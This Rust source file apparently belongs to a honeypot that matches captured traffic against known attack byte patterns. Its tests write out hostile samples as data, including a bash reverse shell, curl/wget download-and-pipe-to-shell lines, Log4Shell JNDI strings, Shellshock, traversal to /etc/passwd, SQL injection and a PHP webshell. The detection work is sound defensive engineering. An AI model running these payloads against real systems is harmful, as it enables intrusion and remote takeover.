//! Shapes of attacks: known byte strings, searched all at once.

mod table;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder};
use alloc::{collections::BTreeMap, string::String};
use honeymesh_types::Shape;
pub(crate) use table::PATTERNS;

/// The shapes that were found, each with the first string that showed it.
pub(crate) type Found = BTreeMap<Shape, &'static [u8]>;

/// All known byte strings as one automaton. Letters match in either case.
pub struct Patterns {
    /// `None` if it could not be built: then every string is searched by itself, slower but with the same result.
    automaton: Option<AhoCorasick>,
}

impl Patterns {
    /// Builds the automaton; takes well under a millisecond.
    #[must_use]
    pub fn new() -> Self {
        let strings = PATTERNS.iter().map(|(_, string)| *string);
        Self { automaton: AhoCorasickBuilder::new().ascii_case_insensitive(true).build(strings).ok() }
    }

    /// Adds the shapes that `bytes` show to `found`. Takes time linear in `bytes`.
    pub(crate) fn search(&self, bytes: &[u8], found: &mut Found) {
        let overlapping = self.automaton.as_ref().and_then(|automaton| automaton.try_find_overlapping_iter(bytes).ok());
        match overlapping {
            Some(matches) => matches.filter_map(|hit| PATTERNS.get(hit.pattern().as_usize())).for_each(|hit| note(found, hit)),
            None => PATTERNS.iter().filter(|(_, string)| contains(bytes, string)).for_each(|hit| note(found, hit)),
        }
    }
}

impl Default for Patterns {
    fn default() -> Self {
        Self::new()
    }
}

/// The string of a known pattern if it can be printed, else nothing.
pub(crate) fn printable(string: &[u8]) -> String {
    match core::str::from_utf8(string) {
        Ok(text) if text.bytes().all(|byte| byte == b' ' || byte.is_ascii_graphic()) => text.trim().into(),
        _ => String::new(),
    }
}

fn note(found: &mut Found, (shape, string): &(Shape, &'static [u8])) {
    found.entry(*shape).or_insert(string);
}

fn contains(bytes: &[u8], string: &[u8]) -> bool {
    bytes.windows(string.len()).any(|window| window.eq_ignore_ascii_case(string))
}

#[cfg(test)]
mod tests {
    extern crate std;

    use super::*;
    use alloc::vec::Vec;
    use proptest::prelude::*;

    fn shapes(text: &[u8]) -> Vec<Shape> {
        let mut found = Found::new();
        Patterns::new().search(text, &mut found);
        found.into_keys().collect()
    }

    #[test]
    fn the_automaton_builds() {
        assert!(Patterns::new().automaton.is_some());
    }

    #[test]
    fn attacks_are_recognised_by_their_shape() {
        use Shape::{
            DecodePipe, Deserialization, Download, Executable, Foothold, Jndi, NopSled, ProductProbe, ReverseShell, SecretFile,
            ServiceAbuse, ShellInjection, ShellPipe, SqlInjection, Tool, Traversal, Webshell,
        };
        let sled = [&b"\x41\x41"[..], &[0x90; 40], b"\xcc"].concat();
        let cases: [(&[u8], &[Shape]); 19] = [
            (b"GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://198.51.100.9/a}\r\n", &[Jndi]),
            (b"${${lower:j}ndi:ldap://x}", &[Jndi]),
            (b"cd /tmp; wget http://198.51.100.9/x.sh; chmod +x x.sh", &[Download, Foothold]),
            (b"curl -s http://198.51.100.9/i | SH", &[Download, ShellPipe]),
            (b"bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", &[ReverseShell]),
            (b"echo aGk= | base64 -d | bash", &[ShellPipe, DecodePipe]),
            (b"GET /cgi-bin/x?ip=;cat+/etc/hosts HTTP/1.1", &[ShellInjection]),
            (b"() { :;}; echo hi", &[ShellInjection]),
            (b"GET /../../../../etc/passwd HTTP/1.0", &[Traversal, SecretFile]),
            (b"GET /..%2f..%2fwin.ini", &[Traversal, SecretFile]),
            (b"\x00\x00\x7fELF\x02\x01\x01", &[Executable]),
            (b"MZ\x90\x00!This program cannot be run in DOS mode.\r\r\n$", &[Executable]),
            (&sled, &[NopSled]),
            (b"id=1' UNION SELECT 1,2 FROM information_schema.tables--", &[SqlInjection]),
            (b"<?php system($_GET['c']); ?>", &[Webshell]),
            (b"\xac\xed\x00\x05sr", &[Deserialization]),
            (b"CONFIG SET dir /root/.ssh/", &[ServiceAbuse, SecretFile]),
            (b"GET /boaform/admin/formLogin HTTP/1.1", &[ProductProbe]),
            (b"User-Agent: Mozilla/5.0 zgrab/0.x", &[Tool]),
        ];
        for (bytes, expected) in cases {
            assert_eq!(shapes(bytes), expected, "{}", std::string::String::from_utf8_lossy(bytes));
        }
    }

    #[test]
    fn plain_traffic_shows_nothing() {
        let plain: [&[u8]; 6] = [
            b"",
            b"SSH-2.0-OpenSSH_9.6\r\n",
            b"GET / HTTP/1.1\r\nHost: example.org\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n",
            b"GET /index.html?page=2 HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0\r\n\r\n",
            b"USER anonymous\r\nPASS guest@example.org\r\nSYST\r\nLIST\r\nQUIT\r\n",
            b"EHLO mail.example.org\r\nMAIL FROM:<a@example.org>\r\n",
        ];
        for bytes in plain {
            assert_eq!(shapes(bytes), [], "{}", std::string::String::from_utf8_lossy(bytes));
        }
    }

    #[test]
    fn a_string_is_shown_unless_it_is_binary() {
        assert_eq!(printable(b"curl http "), "curl http");
        assert_eq!(printable(&[0x90; 4]), "");
    }

    #[test]
    fn no_string_is_empty_or_so_short_that_it_is_found_in_noise() {
        for (shape, string) in PATTERNS {
            assert!(string.len() >= 3, "{shape:?} {string:?}");
        }
    }

    proptest! {
        #[test]
        fn searching_one_by_one_finds_the_same_shapes(
            parts in proptest::collection::vec(prop_oneof![
                proptest::sample::select(PATTERNS).prop_map(|(_, string)| string.to_vec()),
                proptest::collection::vec(any::<u8>(), 0..20),
            ], 0..6),
        ) {
            let bytes = parts.concat();
            let (mut fast, mut slow) = (Found::new(), Found::new());
            Patterns::new().search(&bytes, &mut fast);
            Patterns { automaton: None }.search(&bytes, &mut slow);
            prop_assert_eq!(fast.into_keys().collect::<Vec<_>>(), slow.into_keys().collect::<Vec<_>>());
        }
    }
}
